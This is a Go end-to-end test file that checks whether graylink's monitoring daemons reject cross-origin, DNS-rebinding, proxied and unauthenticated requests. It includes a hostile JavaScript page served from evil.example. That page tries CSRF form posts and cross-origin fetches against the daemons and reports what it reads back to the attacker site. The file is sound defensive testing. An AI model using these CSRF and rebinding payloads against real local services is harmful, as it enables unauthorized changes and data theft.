package e2e

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/graylink/graylink/internal/fabric"
)

// daemons are all programs that listen for HTTP, each with something that it would change.
type daemons struct {
	t    *testing.T
	dir  string
	web  map[string]string // address by program
	logs map[string]*lockedBuffer
	options
}

// options change how the daemons are started.
type options struct {
	flags    []string            // of all
	more     map[string][]string // by program
	analyzer string              // its configuration; "": servers that are not there
	tls      bool                // flags make the listeners speak TLS
}

// lockedBuffer is a program's log, read while it is written.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

// Write implements io.Writer.
func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

// String returns what was written.
func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

const webTopology = `version: 1
switches: [{name: leaf1, role: leaf}]
nodes:
- {name: h1, nics: [{device: eth1, addresses: [127.0.0.1]}]}
- {name: h2, nics: [{device: eth1, addresses: [127.0.0.2]}]}
links:
- {a: h1/eth1, b: "leaf1:dn1"}
- {a: h2/eth1, b: "leaf1:dn2"}
`

// acts are the requests that change something, by program.
var acts = map[string][]act{
	"node": {{"POST", "/-/reload", ""}, {"POST", "/api/v1/trace", `{"edges":["h1/eth1>h2/eth1#0"]}`}, {"POST", "/api/v1/nic-health/reset", "{}"},
		{"POST", "/api/v1/trace-tuples", `{"tuples":[{"src":"h1/eth1","dst":"h2/eth1","proto":"udp","dport":4791,"sport":50000,"dscp":26}]}`}},
	"switch":      {{"POST", "/-/reload", ""}},
	"coordinator": {{"POST", "/-/reload", ""}, {"POST", "/api/v1/keys/rotate", ""}},
	"analyzer": {{"POST", "/-/reload", ""}, {"POST", "/api/v1/maintenance", `{"element":"leaf1","by":"evil","duration":"8760h"}`},
		{"DELETE", "/api/v1/maintenance/none", ""}, {"POST", "/api/v1/catalogue", `{"pairs":[{"src":"h1/eth1","dst":"h2/eth1"}],"dscp":26,"qps":8}`}},
}

type act struct{ method, path, body string }

// secrets are answers that a page of another origin must not read.
var secrets = map[string][]string{"node": {"/metrics", "/api/v1/paths"}, "switch": {"/metrics", "/api/v1/ports"},
	"coordinator": {"/metrics", "/api/v1/agents"}, "analyzer": {"/metrics", "/api/v1/verdicts", "/"}}

func startDaemons(t *testing.T, flags ...string) *daemons {
	t.Helper()
	return startDaemonsWith(t, options{flags: flags})
}

func startDaemonsWith(t *testing.T, o options) *daemons {
	t.Helper()
	need(t)
	d := &daemons{t: t, dir: t.TempDir(), web: map[string]string{}, logs: map[string]*lockedBuffer{}, options: o}
	t.Cleanup(func() {
		if t.Failed() {
			for who, b := range d.logs {
				t.Logf("%s said:\n%s", who, tail(b.String(), 3000))
			}
		}
	})
	for _, args := range [][]string{{"ca"}, {"issue", "coordinator"}} {
		if _, stderr, code := graylink(t, append([]string{"cert", "--dir", d.dir}, args...)...); code != 0 {
			t.Fatalf("graylink cert %v: %s", args, stderr)
		}
	}
	file := func(name, text string) string {
		path := filepath.Join(d.dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	topology := file("topology.yaml", webTopology)
	const firstSource = 49152 // the default of stamp.source_port
	stampPort := firstSource
	for stampPort >= firstSource && stampPort < firstSource+fabric.FlowsPerClass { // a source port of probes
		c, err := net.ListenPacket("udp4", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		stampPort = c.LocalAddr().(*net.UDPAddr).Port
		_ = c.Close()
	}
	var admin []string // the switch has nothing but a reload
	for _, f := range o.flags {
		if f != "--web.enable-admin-api" {
			admin = append(admin, f)
		}
	}
	in := func(name string) string { return filepath.Join(d.dir, name) }
	d.run("node", append([]string{"--config.file=" + file("node.yaml", fmt.Sprintf(`node: h1
stamp: {port: %d}
nics: [{nic: h1/eth1, address: 127.0.0.1, leaf: leaf1}]
peers: [{nic: h2/eth1, address: 127.0.0.2, leaf: leaf1, tier: 1, probe: false}]
`, stampPort))}, o.flags...))
	d.run("switch", append([]string{"--switch=leaf1", "--ports=none*", "--source=software-af-packet"}, admin...))
	d.run("coordinator", append([]string{"--topology.file=" + topology, "--state.file=" + in("state.json"), "--agents.listen-address=unix:" + in("agents.sock"),
		"--agents.ca=" + in("ca.crt"), "--agents.cert=" + in("coordinator.crt"), "--agents.key=" + in("coordinator.key"), "--registry.settle=1ms"}, o.flags...))
	config := "topology_file: topology.yaml\n" + cmp.Or(o.analyzer, "prometheus: {url: \"http://127.0.0.1:1\"}\nagents: {url: \"http://127.0.0.1:1/{node}\"}\n")
	d.run("analyzer", append([]string{"--config.file=" + file("analyzer.yaml", config)}, o.flags...))
	return d
}

func (d *daemons) run(program string, args []string) {
	d.t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		d.t.Fatal(err)
	}
	d.web[program] = l.Addr().String()
	l.Close()
	d.logs[program] = &lockedBuffer{}
	name := "graylink-" + program
	if program == "ib" {
		name, args = "graylink", append([]string{"ib", "serve"}, args...)
	}
	cmd := exec.Command(filepath.Join(bin, name), append(append(args, d.more[program]...), "--web.listen-address="+d.web[program])...)
	cmd.Stderr = d.logs[program]
	if err := cmd.Start(); err != nil {
		d.t.Fatal(err)
	}
	d.t.Cleanup(func() { stop(d.t, cmd) })
	for end := time.Now().Add(20 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if resp, err := anyServer.Get(d.url(program) + "/-/healthy"); err == nil {
			resp.Body.Close()
			return
		}
		if time.Now().After(end) {
			d.t.Fatalf("%s does not serve: %s", program, d.logs[program])
		}
	}
}

// url returns where a program serves.
func (d *daemons) url(program string) string {
	if d.tls {
		return "https://" + d.web[program]
	}
	return "http://" + d.web[program]
}

// anyServer is a client that does not verify who serves.
var anyServer = &http.Client{Timeout: 40 * time.Second, Transport: &http.Transport{DisableKeepAlives: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}

// ask sends a request to a program and returns the status and the answer.
func (d *daemons) ask(program string, a act, header map[string]string) (int, string) {
	d.t.Helper()
	r, err := http.NewRequest(a.method, d.url(program)+a.path, strings.NewReader(a.body))
	if err != nil {
		d.t.Fatal(err)
	}
	if a.body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	for k, v := range header {
		if k == "Host" {
			r.Host = v
		}
		r.Header.Set(k, v)
	}
	resp, err := anyServer.Do(r)
	if err != nil {
		d.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		d.t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

// changeable matches the series that an act would change.
var changeable = regexp.MustCompile(`(?m)^(graylink_config_last_reload_success_timestamp_seconds|graylink_coordinator_keys_epoch|graylink_coordinator_keys_held|fabric_maintenance_info).*$`)

// state returns what the programs report about themselves that an act would change, and how often they have acted.
func (d *daemons) state() string {
	d.t.Helper()
	out := ""
	for _, program := range []string{"node", "switch", "coordinator", "analyzer"} {
		_, text := d.ask(program, act{"GET", "/metrics", ""}, nil)
		out += program + ": " + strings.Join(changeable.FindAllString(text, -1), "\n") + "\n"
		out += fmt.Sprintf("acts: %d\n", strings.Count(d.logs[program].String(), "msg=act "))
	}
	_, windows := d.ask("analyzer", act{"GET", "/api/v1/maintenance", ""}, nil)
	return out + windows
}

// TestWebRefusals: requests as hostile pages, rebound names, proxies and clients without
// authentication send them change nothing on any program.
func TestWebRefusals(t *testing.T) {
	t.Parallel()
	d := startDaemons(t, "--web.enable-admin-api", "--web.enable-lifecycle")
	plain := startDaemons(t)
	before, plainBefore := d.state(), plain.state()
	for program, all := range acts {
		for _, a := range all {
			for name, tc := range map[string]struct {
				header map[string]string
				want   int
			}{
				"a page of another origin":     {map[string]string{"Origin": "https://evil.example", "Content-Type": "text/plain"}, http.StatusForbidden},
				"a page that browsers mark":    {map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
				"another page of this machine": {map[string]string{"Origin": "http://127.0.0.1:1", "Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
				"a rebound name":               {map[string]string{"Host": "evil.example", "Origin": "http://evil.example", "Sec-Fetch-Site": "same-origin"}, http.StatusMisdirectedRequest},
				"behind a proxy":               {map[string]string{"X-Forwarded-For": "192.0.2.1"}, http.StatusForbidden},
				"behind another proxy":         {map[string]string{"Forwarded": "for=192.0.2.1"}, http.StatusForbidden},
				"a password that is not asked": {map[string]string{"Authorization": "Basic YTpi", "X-Real-Ip": "192.0.2.1"}, http.StatusForbidden},
			} {
				if code, text := d.ask(program, a, tc.header); code != tc.want {
					t.Errorf("%s %s of %s, %s: %d %s", a.method, a.path, program, name, code, text)
				}
			}
			if a.body != "" {
				if code, text := d.ask(program, a, map[string]string{"Content-Type": "text/plain"}); code != http.StatusUnsupportedMediaType {
					t.Errorf("%s of %s as text: %d %s", a.path, program, code, text)
				}
			}
			flag := "--web.enable-admin-api"
			if a.path == "/-/reload" {
				flag = "--web.enable-lifecycle"
			}
			if code, text := plain.ask(program, a, nil); code != http.StatusForbidden || !strings.Contains(text, flag) {
				t.Errorf("%s %s of %s without the flag: %d %s", a.method, a.path, program, code, text)
			}
		}
		for _, path := range secrets[program] {
			for host, want := range map[string]int{"evil.example": http.StatusMisdirectedRequest, "h1:9868": http.StatusMisdirectedRequest, "localhost:1": http.StatusOK, "[::1]:1": http.StatusOK, "10.1.2.3:1": http.StatusOK} {
				if code, text := d.ask(program, act{"GET", path, ""}, map[string]string{"Host": host}); code != want {
					t.Errorf("%s of %s at host %s: %d %.80s", path, program, host, code, text)
				}
			}
		}
	}
	if after := d.state(); after != before {
		t.Errorf("something has changed:\n%s\nwas\n%s", after, before)
	}
	if after := plain.state(); after != plainBefore {
		t.Errorf("something has changed without the flags:\n%s\nwas\n%s", after, plainBefore)
	}
	// The same requests change something when they come from this machine, and the log
	// says who has made them and from where.
	for program, all := range acts {
		for _, a := range all {
			code, text := d.ask(program, a, nil)
			if code == http.StatusForbidden || code == http.StatusUnsupportedMediaType || code == http.StatusMisdirectedRequest {
				t.Errorf("%s %s of %s from loopback: %d %s", a.method, a.path, program, code, text)
			}
			line := regexp.MustCompile(`msg=act request="` + a.method + " " + a.path + `" by=loopback from=127.0.0.1:`)
			for end := time.Now().Add(20 * time.Second); !line.MatchString(d.logs[program].String()); time.Sleep(10 * time.Millisecond) {
				if time.Now().After(end) { // the log comes through a pipe
					t.Fatalf("%s %s of %s is not in the log", a.method, a.path, program)
				}
			}
		}
	}
	if d.state() == before {
		t.Error("the state does not show what the requests change")
	}
}

// hostileJS tries everything that a page can do to other origins, and posts what it read.
// It takes the targets as [{base, paths, acts}] and posts {"read": [...], "tried": n}.
const hostileJS = `
const targets = TARGETS;
const read = [];
let tried = 0;
async function attempt(what, url, options) {
  tried++;
  const stop = new AbortController();
  const timer = setTimeout(() => stop.abort(), 5000);
  try {
    const answer = await fetch(url, {...options, signal: stop.signal});
    const text = await answer.text();
    if (answer.ok && text !== "") read.push(what + ": " + text.slice(0, 80));
  } catch (e) {}
  clearTimeout(timer);
}
function form(url, body) {
  tried++;
  const frame = document.createElement("iframe");
  frame.name = "f" + tried;
  document.body.appendChild(frame);
  const f = document.createElement("form");
  f.action = url; f.method = "POST"; f.enctype = "text/plain"; f.target = frame.name;
  const i = document.createElement("input");
  i.name = body.slice(0, -1) + ',"reason":"'; i.value = '"}';
  f.appendChild(i);
  document.body.appendChild(f);
  f.submit();
  return new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
}
(async () => {
  await attempt("control", "/control", {});
  for (const t of targets) {
    for (const p of t.paths) {
      await attempt("GET " + t.base + p, t.base + p, {});
      await attempt("GET no-cors " + t.base + p, t.base + p, {mode: "no-cors"});
    }
    for (const a of t.acts) {
      await attempt(a.method + " " + t.base + a.path, t.base + a.path, {method: a.method, body: a.body || undefined, headers: {"Content-Type": "application/json"}});
      await attempt(a.method + " plain " + t.base + a.path, t.base + a.path, {method: "POST", body: a.body || undefined, mode: "no-cors", headers: {"Content-Type": "text/plain"}});
      await attempt(a.method + " empty " + t.base + a.path, t.base + a.path, {method: "POST", mode: "no-cors"});
      await form(t.base + a.path, a.body || "{}");
    }
  }
  await fetch("/report", {method: "POST", body: JSON.stringify({read, tried})});
})();
`

type hostileReport struct {
	Read  []string
	Tried int
}

// hostile serves an attacker's web site. What it does not serve itself, it forwards to target: as a name that is
// rebound from the attacker's address to the victim's.
func hostile(t *testing.T, l net.Listener, target string, targets any) <-chan hostileReport {
	t.Helper()
	reports := make(chan hostileReport, 1)
	js, err := json.Marshal(targets)
	if err != nil {
		t.Fatal(err)
	}
	forward := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(&url.URL{Scheme: "http", Host: target})
		r.Out.Host = r.In.Host
	}}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /hostile", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!DOCTYPE html><body><script>%s</script>", strings.Replace(hostileJS, "TARGETS", string(js), 1))
	})
	mux.HandleFunc("GET /control", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "it reads") })
	mux.HandleFunc("POST /report", func(_ http.ResponseWriter, r *http.Request) {
		var report hostileReport
		if err := json.NewDecoder(r.Body).Decode(&report); err != nil {
			t.Error(err)
		}
		reports <- report
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if target == "" {
			http.NotFound(w, r)
			return
		}
		forward.ServeHTTP(w, r)
	})
	srv := &http.Server{Handler: mux}
	served := make(chan error, 1)
	go func() { served <- srv.Serve(l) }()
	t.Cleanup(func() { srv.Close(); <-served })
	return reports
}

// browse starts a headless Chromium that opens a page.
func browse(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	browser, err := exec.LookPath("chromium")
	if err != nil {
		const missing = "needs chromium"
		if os.Getenv("GRAYLINK_REQUIRE_ALL") == "1" {
			t.Fatal(missing)
		}
		t.Skip(missing)
	}
	// A profile in a directory of its own: Chromium's children may write after its end.
	profile := filepath.Join(os.TempDir(), "graylink-chromium-"+rand.Text())
	t.Cleanup(func() { os.RemoveAll(profile) })
	cmd := exec.Command(browser, append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
		"--disable-sync", "--user-data-dir=" + profile, "--host-resolver-rules=MAP evil.example 127.0.0.2"}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	t.Cleanup(func() {
		if cmd.Process != nil {
			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		}
	})
	return cmd
}

// TestHostilePages: a page of another origin, and one whose name is rebound to this
// machine, opened in a real browser on the machine of the programs, change nothing and
// read nothing.
func TestHostilePages(t *testing.T) {
	t.Parallel()
	d := startDaemons(t, "--web.enable-admin-api", "--web.enable-lifecycle")
	type target struct {
		Base  string   `json:"base"`
		Paths []string `json:"paths"`
		Acts  []any    `json:"acts"`
	}
	of := func(program, base string) target {
		out := target{Base: base, Paths: secrets[program]}
		for _, a := range acts[program] {
			out.Acts = append(out.Acts, map[string]string{"method": a.method, "path": a.path, "body": a.body})
		}
		return out
	}
	before := d.state()
	type visit struct {
		name, page string
		reports    <-chan hostileReport
	}
	var visits []visit
	var all []target
	for program, address := range d.web {
		_, port, _ := net.SplitHostPort(address)
		all = append(all, of(program, "http://"+address), of(program, "http://localhost:"+port))
		// The browser comes to the attacker's address first, at the victim's port: the
		// origin is the same before and after the name is rebound.
		l, err := net.Listen("tcp", "127.0.0.2:"+port)
		if err != nil {
			t.Fatal(err)
		}
		visits = append(visits, visit{"rebinding to " + program, "http://evil.example:" + port + "/hostile", hostile(t, l, address, []target{of(program, "")})})
	}
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(l.Addr().String())
	visits = append(visits, visit{"another origin", "http://evil.example:" + port + "/hostile", hostile(t, l, "", all)})
	l, err = net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	visits = append(visits, visit{"another port of this machine", "http://" + l.Addr().String() + "/hostile", hostile(t, l, "", all)})
	for _, v := range visits {
		cmd := browse(t, v.page)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		select {
		case r := <-v.reports:
			if len(r.Read) != 1 || !strings.HasPrefix(r.Read[0], "control: it reads") || r.Tried < 6 {
				t.Errorf("%s: of %d attempts, these have read something: %q", v.name, r.Tried, r.Read)
			}
		case <-time.After(time.Minute):
			t.Errorf("%s: the page has not come to its end", v.name)
		}
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
	}
	if after := d.state(); after != before {
		t.Errorf("something has changed:\n%s\nwas\n%s", after, before)
	}
}

// TestDemoPageInABrowser: the demo's page comes up by address, by name, and through a
// forwarded port, as ssh -L makes one.
func TestDemoPageInABrowser(t *testing.T) {
	programs(t)
	t.Parallel()
	browse(t) // skips without a browser
	cmd := exec.Command(filepath.Join(bin, "graylink"), "demo", "--fabric", "sim", "--web.listen-address", "127.0.0.1:0", "--fault", "none", "--duration", "1s", "--keep")
	pipe, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Signal(syscall.SIGTERM)
		_, _ = io.Copy(io.Discard, pipe)
		_ = cmd.Wait()
	})
	address := ""
	for sc := bufio.NewScanner(pipe); address == "" && sc.Scan(); {
		if _, at, ok := strings.Cut(sc.Text(), "the page is at http://"); ok {
			address = strings.TrimSuffix(at, "/")
		}
	}
	if address == "" {
		t.Fatal("the demo does not say where its page is")
	}
	go func() { _, _ = io.Copy(io.Discard, pipe) }()
	_, port, _ := net.SplitHostPort(address)
	_, forwarded, _ := net.SplitHostPort(forwardPort(t, address))
	for _, base := range []string{"http://127.0.0.1:" + port, "http://localhost:" + port, "http://localhost:" + forwarded} {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		dump := browse(t, "--dump-dom", base+"/")
		timer := context.AfterFunc(ctx, func() { _ = syscall.Kill(-dump.Process.Pid, syscall.SIGKILL) })
		dom, err := dump.Output()
		timer()
		cancel()
		if err != nil || !bytes.Contains(dom, []byte("Graylink")) || !bytes.Contains(dom, []byte("leaf1")) {
			t.Errorf("%s: %v: %.300s", base, err, dom)
		}
		for _, file := range regexp.MustCompile(`(?:href|src)="(static/[^"]+)"`).FindAllSubmatch(dom, -1) {
			resp, err := http.Get(base + "/" + string(file[1]))
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Errorf("%s/%s: %s", base, file[1], resp.Status)
			}
		}
	}
	resp, err := http.Post("http://localhost:"+forwarded+"/api/v1/maintenance", "application/json", strings.NewReader(`{"element":"leaf1","by":"test","duration":"1m"}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Errorf("a window of maintenance through the forwarded port: %s", resp.Status)
	}
}

// forwardPort listens on another port and passes connections on to an address.
func forwardPort(t *testing.T, to string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(func() { cancel(); l.Close(); wg.Wait() })
	wg.Go(func() {
		for {
			in, err := l.Accept()
			if err != nil {
				return
			}
			out, err := net.Dial("tcp", to)
			if err != nil {
				in.Close()
				continue
			}
			closeBoth := func() { in.Close(); out.Close() }
			context.AfterFunc(ctx, closeBoth)
			wg.Go(func() { defer closeBoth(); _, _ = io.Copy(out, in) })
			wg.Go(func() { defer closeBoth(); _, _ = io.Copy(in, out) })
		}
	})
	return l.Addr().String()
}
